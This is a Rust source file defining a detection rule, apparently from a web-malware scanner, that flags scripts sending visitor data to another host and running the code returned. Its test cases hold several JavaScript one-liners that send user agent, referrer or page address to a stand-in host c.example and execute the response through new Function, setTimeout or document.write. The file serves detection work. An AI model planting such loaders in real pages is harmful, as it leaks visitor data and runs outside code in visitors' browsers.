//! `foreign-code-for-some-visitors`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "foreign-code-for-some-visitors",
    description: "The script sends data about the visitor to another host and runs the code that comes back.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::ForeignRun, Atom::RemoteRun]),
        one(&[Atom::SentAbroad]),
        one(&[
            Atom::Cookie,
            Atom::Storage,
            Atom::BrowserCheck,
            Atom::Robot,
            Atom::Devtools,
            Atom::SignedIn,
            Atom::LocalTime,
            Atom::PageClick,
            Atom::Base64Encode,
            Atom::Decode,
            Atom::FromCodes,
            Atom::Socket,
        ]),
    ],
    within: 150,
    only_if: Some(is_foreign),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(/Windows/.test(navigator.userAgent)&&document.cookie.indexOf('k=1')<0){var x=new XMLHttpRequest;x.open('POST','https://c.example/a');x.onload=function(){new Function(x.responseText)()};x.send(location.href)}",
            "const f=[].filter.constructor;fetch('https://c.example/g?r='+btoa(document.referrer)).then(r=>r.text()).then(t=>f(t)())",
            "fetch(localStorage.getItem('k')||'https://c.example/l').then(r=>r.text()).then(c=>setTimeout(c,9))",
            "var d=/Windows/.test(navigator.userAgent)?'w':'o';fetch('https://c.example/j?d='+d+'&r='+btoa(document.referrer)).then(r=>r.text()).then(t=>{if(t)document.write(t)})",
            "var s=new WebSocket('wss://c.example/s');s.onopen=()=>s.send(location.href);s.onmessage=m=>new Function(m.data)()",
        ],
        without: &[
            "var x=new XMLHttpRequest;x.open('GET','https://c.example/loader.js');x.onload=function(){Function(x.responseText)()};x.send()",
            "if(!document.cookie)fetch('https://c.example/a').then(r=>r.text()).then(t=>{box.textContent=t})",
            "if(!document.cookie)fetch('/a').then(r=>r.text()).then(t=>eval(t))",
            "var s=new WebSocket('wss://c.example/s');s.onmessage=m=>{box.textContent=m.data}",
        ],
    },
};

/// Whether the code comes from another host: by an address, or through a socket.
fn is_foreign(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    near.has_fact(&[Atom::ForeignRun]) || near.has_fact(&[Atom::Socket])
}
